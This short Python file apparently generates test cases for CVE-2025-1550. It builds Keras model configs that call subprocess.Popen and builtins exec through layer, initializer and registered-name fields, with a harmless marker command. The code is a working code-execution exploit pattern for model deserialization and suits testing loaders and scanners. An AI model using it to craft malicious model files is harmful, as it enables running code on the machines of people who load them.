"""`config.json` names any module and callable in place of a Keras class, with the arguments of its call
(CVE-2025-1550): as the class of a layer, as a function, as an initializer and under a registered name.
"""


def write(draft):
    command = "import os; os.write(2, b'CODE-' + b'RAN')"
    popen = {
        "module": "subprocess",
        "class_name": "Popen",
        "config": {"args": ["python3", "-c", command]},
        "registered_name": "Popen",
    }
    run = {"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}
    dense = draft.layer("Dense", name="dense", units=1, activation=run, kernel_initializer=popen)
    draft.model(draft.archive(draft.sequential(popen, dense)))
